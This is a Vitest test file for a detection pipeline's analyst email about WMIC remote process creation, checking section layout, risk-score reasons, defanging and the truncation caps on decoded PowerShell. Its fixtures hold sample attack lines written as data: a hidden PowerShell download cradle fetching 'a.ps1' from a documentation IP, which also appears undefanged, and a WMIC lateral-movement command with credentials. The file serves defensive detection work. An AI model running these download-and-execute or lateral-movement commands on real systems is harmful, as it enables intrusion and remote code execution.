/**
 * The per-pair email as an analyst reads it, line for line: the headings and labels of every
 * section, the risk reasons with their signed points, the late and allowlist lines, the decoded
 * PowerShell blocks (the script's own and the launcher's) with their caps, and the placeholders a
 * malformed stored record renders with.
 */
import { describe, expect, it } from 'vitest';
import type { TrackedFinding } from '../../lambda/finding.js';
import { renderEmail } from '../../lambda/notify/email.js';
import { DEFAULT_LIMITS, LIMIT_LEVELS, type RenderLimits } from '../../lambda/notify/limits.js';
import { drillDownXql } from '../../lambda/notify/xql.js';
import { makeContext, makeFinding } from '../fixtures/notify/findings.js';

const ctx = makeContext();
/** The tightest caps: the email shows at most 120 characters of a decoded script. */
const TIGHT: RenderLimits = LIMIT_LEVELS[LIMIT_LEVELS.length - 1]!;
const FINGERPRINT = '3f'.repeat(32);
const SCRIPT_TITLE = 'DECODED POWERSHELL (-EncodedCommand, passwords redacted)';
const PARENT_TITLE = "DECODED PARENT POWERSHELL (the launcher's -EncodedCommand, passwords redacted)";

function body(overrides: Partial<TrackedFinding>, limits: RenderLimits = DEFAULT_LIMITS): string {
  return renderEmail(makeFinding({ fingerprint: FINGERPRINT, ...overrides }), ctx, limits).body;
}

/** The lines of the section headed `heading`, up to the blank line that ends it (heading excluded). */
function section(text: string, heading: string): string[] {
  const lines = text.split('\n');
  const start = lines.indexOf(heading);
  if (start < 0) return [];
  const end = lines.indexOf('', start);
  return lines.slice(start + 1, end < 0 ? undefined : end);
}

/** The `label: value` line of the WHAT HAPPENED section, as the email aligns it. */
function row(label: string, value: string): string {
  return `  ${`${label}:`.padEnd(31)}${value}`;
}

/**
 * A decoded script of exactly `length` characters, shaped like the detector's output (one
 * command per line, see lambda/detect/decoded-script.ts); no dots or URLs, so the email shows
 * each line as it is.
 */
function scriptOfLength(length: number): string {
  const lines: string[] = [];
  // each line is 32 characters ("Start-Sleep -Sec 10; Get-Process") plus its line break; the last one has 1 to 33
  while (33 * (lines.length + 1) <= length - 1) lines.push(`Start-Sleep -Sec ${10 + (lines.length % 90)}; Get-Process`);
  lines.push('#'.repeat(length - 33 * lines.length));
  const script = lines.join('\n');
  expect(script.length).toBe(length);
  return script;
}

describe('the per-pair email, line for line', () => {
  it('reads, for the fixture finding, every heading, label and hunt text in order', () => {
    const f = makeFinding({ fingerprint: FINGERPRINT });
    const { subject, body: text } = renderEmail(f, ctx);
    expect(subject).toBe('[CRITICAL] WMIC remote exec "WKS-FIN-042" -> "srv-file-01" (risk 95)');
    expect(text).toBe(`WMIC remote process creation: "WKS-FIN-042" -> "srv-file-01"
Remote Process Creation using WMIC (HuntQuery-Windows-WMIC-RemoteExec v1.0)
Severity CRITICAL, risk score 95 (hunt base 85)

WHAT HAPPENED
  Source host (agent_hostname):  "WKS-FIN-042"
  Target host (/node:):          "srv-file-01"
  Remote command (what ran):     "powershell.exe -nop -w hidden -c \\"iex (iwr hxxp://10[.]0[.]0[.]5/a.ps1)\\""
  wmic command line:             "wmic /node:\\"srv-file-01\\" /user:CORP\\svc_backup /password:[REDACTED] process call create \\"powershell.exe -nop -w hidden -c \\\\"iex (iwr hxxp://10[.]0[.]0[.]5/a.ps1)\\\\"\\""
  User:                          "CORP\\jdoe"
  /user: on the line:            "CORP\\svc_backup"
  Parent process:                "C:\\Windows\\System32\\cmd.exe"
  Parent command line:           "cmd.exe /c C:\\Users\\Public\\run.bat"
  Causality SHA-256:             "${'b'.repeat(64)}"
  Agent id:                      "agent-7f3a"
  Time (UTC, last event):        2026-03-14T09:41:53.000Z
  Events:                        3 since first seen 2026-03-14T09:26:53.000Z, last seen 2026-03-14T09:41:53.000Z
  Fingerprint:                   ${FINGERPRINT}

WHY RISK SCORE 95
    +5  payload.powershell: remote command starts PowerShell
    +5  line.credentials: explicit /user: on the line

ATT&CK
  T1047 Windows Management Instrumentation - TA0008 Lateral Movement
  T1047 Windows Management Instrumentation - TA0002 Execution

RESPONSE ACTIONS
  1. Isolate Both Hosts: Immediately isolate both the source (agent_hostname) and the destination (/node:) hosts to contain the threat.
  2. Analyze Command: Examine the command line to understand what process was executed on the remote host. This will reveal the attacker's immediate objective.
  3. Investigate Source: Analyze the source host to understand how the attacker gained access and was able to launch the WMIC command.
  4. Investigate Destination: Analyze the destination host for signs of follow-on activity from the remotely executed process.
  5. Review Credentials: The credentials used for this action are compromised. They must be reset, and their other activities should be reviewed.

KNOWN FALSE POSITIVES (check before escalating)
  - Legitimate remote administration scripts use WMIC for software deployment or management.
  - Enterprise management tools (e.g., SCCM) leverage WMIC for remote tasks.
  - The context is critical. An administrator running a known script is different from wmic.exe being spawned by an unusual parent process to launch powershell.exe on a remote server.

DRILL DOWN IN XSIAM (paste into the XQL query builder)
${drillDownXql(f, ctx)}

Run run-2026-03-14T10-30, window 2026-03-14T08:26:53.000Z to 2026-03-14T10:26:53.000Z.
References: https://attack.mitre.org/techniques/T1047/ https://blog.talosintelligence.com/new-chaos-ransomware/
`);
  });

  it('says "(none)" when the wmic line carries no /user:', () => {
    expect(section(body({ lineUser: null }), 'WHAT HAPPENED')).toContain(row('/user: on the line', '(none)'));
  });

  it('adds a Late line after Events for evidence that reached XSIAM 30 h after it happened', () => {
    const lines = section(body({ arrivedLateMs: 30 * 3_600_000 }), 'WHAT HAPPENED');
    const events = lines.findIndex((l) => l.startsWith('  Events:'));
    expect(lines[events + 1]).toBe(row('Late', 'arrived 30 h after it happened (reached XSIAM late)'));
    expect(lines[events + 2]).toBe(row('Fingerprint', FINGERPRINT));
  });

  it('names the allowlist entry on its own labelled line', () => {
    const suppressed = { entryId: 'sccm-push', owner: 'it-ops', reason: 'SCCM client push', expires: '2026-12-31' };
    expect(section(body({ suppressed }), 'WHAT HAPPENED').at(-1)).toBe(
      row('Allowlist', 'suppressed by sccm-push (owner it-ops, expires 2026-12-31): SCCM client push'));
  });
});

describe('the WHY RISK SCORE section', () => {
  const reasons = (rs: unknown): string[] => section(body({ reasons: rs as TrackedFinding['reasons'] }), 'WHY RISK SCORE 95');

  it('says the score is the hunt base when there is no reason, or the stored list is missing', () => {
    expect(reasons([])).toEqual(['  (no adjustments: base score of the hunt)']);
    expect(reasons(null)).toEqual(['  (no adjustments: base score of the hunt)']);
  });

  it('signs positive points only: +1 one above zero, 0 and -10 as they are', () => {
    expect(reasons([
      { code: 'parent.stager', points: 1, detail: 'one point up' },
      { code: 'target.self', points: 0, detail: 'no change' },
      { code: 'allow.admin', points: -10, detail: 'known admin share' },
    ])).toEqual([
      '    +1  parent.stager: one point up',
      '     0  target.self: no change',
      '   -10  allow.admin: known admin share',
    ]);
  });

  it('shows ? for malformed points, (unknown) for a missing code and nothing for a missing detail', () => {
    expect(reasons([{ code: 'payload.powershell', points: 'five' }, null])).toEqual([
      '     ?  payload.powershell: ',
      '     ?  (unknown): ',
    ]);
  });
});

describe('placeholders of a malformed stored record', () => {
  it('shows ? for a risk score and an event count that are not finite numbers', () => {
    const { subject, body: text } = renderEmail(makeFinding({ riskScore: Number.NaN, count: Number.NaN }), ctx);
    expect(subject).toBe('[CRITICAL] WMIC remote exec "WKS-FIN-042" -> "srv-file-01" (risk ?)');
    expect(text).toContain('\nSeverity CRITICAL, risk score ? (hunt base 85)\n');
    expect(text).toContain('\nWHY RISK SCORE ?\n');
    expect(text).toContain(row('Events', '? since first seen 2026-03-14T09:26:53.000Z, last seen 2026-03-14T09:41:53.000Z'));
  });

  it('shows ? for a count that is missing', () => {
    expect(body({ count: undefined as unknown as number })).toContain(row('Events', '? since first seen'));
  });
});

describe('the decoded PowerShell blocks', () => {
  const SCRIPT = "$c = New-Object Net.WebClient\n\nIEX $c.DownloadString('http://198.51.100.23/a.ps1')";
  // the blank script line stays a blank `  | ` line; the URL is defanged like every other URL in the email
  const SHOWN = ['  | $c = New-Object Net.WebClient', '  | ', "  | IEX $c.DownloadString('hxxp://198[.]51[.]100[.]23/a.ps1')"];

  it('shows the script once, after a blank line, when the launcher ran the same script', () => {
    const text = body({ decodedScript: SCRIPT, parentDecodedScript: SCRIPT });
    expect(text).toContain(`\n\n${SCRIPT_TITLE}\n${SHOWN.join('\n')}\n\nWHY RISK SCORE 95\n`);
    expect(text).not.toContain('DECODED PARENT');
  });

  it("shows the launcher's own script after the remote command's when they differ", () => {
    const parent = 'Invoke-WmiMethod -ComputerName srv-file-01';
    const text = body({ decodedScript: SCRIPT, parentDecodedScript: parent });
    expect(text).toContain(`\n\n${SCRIPT_TITLE}\n${SHOWN.join('\n')}\n\n${PARENT_TITLE}\n  | ${parent}\n\nWHY RISK SCORE 95\n`);
  });

  it('shows only the launcher block when the remote command had no encoded script', () => {
    const text = body({ decodedScript: null, parentDecodedScript: 'Get-Service' });
    expect(text).toContain(`\n\n${PARENT_TITLE}\n  | Get-Service\n\nWHY RISK SCORE 95\n`);
    expect(text).not.toContain(SCRIPT_TITLE);
  });

  it('shows all of a script exactly at the 120-character cap of the tightest level, without a notice', () => {
    const script = scriptOfLength(120);
    expect(section(body({ decodedScript: script }, TIGHT), SCRIPT_TITLE)).toEqual(script.split('\n').map((l) => `  | ${l}`));
  });

  it('cuts a script one character over the cap and says how long it was', () => {
    const script = scriptOfLength(121);
    expect(section(body({ decodedScript: script }, TIGHT), SCRIPT_TITLE)).toEqual([
      ...script.slice(0, 120).split('\n').map((l) => `  | ${l}`),
      '  | [...truncated, 121 chars in total]',
    ]);
  });

  it('caps the script at 2,000 characters even when the level allows 8,000 in other text', () => {
    const inside = scriptOfLength(2_000);
    expect(section(body({ decodedScript: inside }), SCRIPT_TITLE).at(-1)).toBe(`  | ${inside.split('\n').at(-1)!}`);
    const outside = scriptOfLength(2_001);
    expect(section(body({ decodedScript: outside }), SCRIPT_TITLE).at(-1)).toBe('  | [...truncated, 2001 chars in total]');
  });
});

describe('a decoded script of more than 100 lines', () => {
  // A stager can push its payload below a screen of blank lines; the detector keeps such a script
  // whole (it is far under its 1,000-character cap), so only the email's 100-line cap cuts it.
  const PAYLOAD = "IEX $c.DownloadString('http://198.51.100.23/a.ps1')";
  const SHOWN = "  | IEX $c.DownloadString('hxxp://198[.]51[.]100[.]23/a.ps1')";
  const padded = (blank: number): string => `${'\n'.repeat(blank)}${PAYLOAD}`;

  it('shows all 100 lines of a 100-line script, without a notice', () => {
    expect(section(body({ decodedScript: padded(99) }), SCRIPT_TITLE)).toEqual([...Array<string>(99).fill('  | '), SHOWN]);
  });

  it('shows the first 100 lines of a 101-line script and says it was cut', () => {
    const script = padded(100);
    expect(section(body({ decodedScript: script }), SCRIPT_TITLE)).toEqual([
      ...Array<string>(100).fill('  | '),
      `  | [...truncated, ${script.length} chars in total]`,
    ]);
  });
});
